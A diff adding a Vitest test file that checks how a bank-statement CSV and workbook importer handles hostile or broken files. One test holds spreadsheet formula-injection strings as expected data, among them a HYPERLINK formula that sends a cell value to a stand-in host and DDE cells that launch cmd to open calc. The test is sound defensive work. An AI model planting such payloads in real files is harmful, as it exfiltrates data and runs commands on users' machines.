@@ -1,0 +1,62 @@
+// Every hostile or broken CSV and workbook of the test data gets the answer that its note wants, quickly.
+import { beforeEach, describe, expect, test } from 'vitest'
+import { readTable } from '../../../main/worker/table/read-table.ts'
+import { minorToDecimal, sumMinor } from '../../../shared/value/money.ts'
+import { readShared, readSharedJson, skipWithoutSharedData } from '../../support/shared-data.ts'
+
+interface Note {
+  readonly want: string
+  readonly sum?: string
+  readonly values?: readonly string[]
+  readonly dates?: readonly string[]
+}
+
+const { files = {} } = readSharedJson<{ files?: Readonly<Record<string, Note>> }>('data', 'bad', 'notes.json')
+
+describe('bad tables', () => {
+  beforeEach(skipWithoutSharedData)
+
+  test.each(Object.entries(files).filter(([name]) => /^(csv|xls)/.test(name)))('%s', async (name, note) => {
+    const file = await readTable(readShared('data', 'bad', name))
+    const wanted = note.want.split('|')
+    if (!file.ok) {
+      expect([...wanted, ...(wanted.includes('error') ? ['415', '422'] : [])]).toContain(String(file.error.status))
+      expect(file.error.message).toMatch(/^[A-Z].{15,}\.$/)
+      return
+    }
+    const rows = file.value.statements.flatMap((statement) => statement.rows)
+    const shown = rows.map((row) => minorToDecimal(row.amount, row.currency))
+    expect(wanted).toContain(`ok:${rows.length}`)
+    if (note.sum !== undefined) expect(minorToDecimal(sumMinor(rows.map((row) => row.amount)), 'CHF')).toBe(note.sum)
+    if (note.values !== undefined) expect(shown).toEqual(note.values)
+    if (note.dates !== undefined) expect(rows.map((row) => row.booking_date)).toEqual(note.dates)
+  })
+
+  test('cells that a spreadsheet would run are kept word for word', async () => {
+    const file = await readTable(readShared('data', 'bad', 'csv_formula_injection.csv'))
+    if (!file.ok) throw new Error(file.error.message)
+    expect(file.value.statements[0]?.rows.map((row) => row.text)).toEqual([
+      '=HYPERLINK("http://x.invalid?"&A1,"Klick")',
+      "+cmd|' /C calc'!A0",
+      '-2+3',
+      '@SUM(1+1)',
+      '=1+1',
+      '=DDE("cmd";"/C calc";"x")',
+    ])
+  })
+
+  test.each([
+    ['csv_no_amount.csv', 'No column of amounts was found. Found: "Datum" as booking_date, "Buchungstext" as text.'],
+    ['csv_addresses.csv', 'No column of booking dates was found.'],
+    ['csv_one_column.csv', 'It has only one column.'],
+    [
+      'csv_amounts_thousand_only.csv',
+      'The column "Betrag" writes figures like "1.234", which may be thousands or decimals',
+    ],
+    ['csv_far_dates.csv', 'Line 2: the date "01.01.0001" does not exist or lies outside of 1900 to 2199'],
+    ['xls_encrypted_like.xlsx', 'the workbook is protected by a password'],
+  ])('%s says what is wrong', async (name, sentence) => {
+    const file = await readTable(readShared('data', 'bad', name))
+    expect(file).toMatchObject({ ok: false, error: { message: expect.stringContaining(sentence) } })
+  })
+})
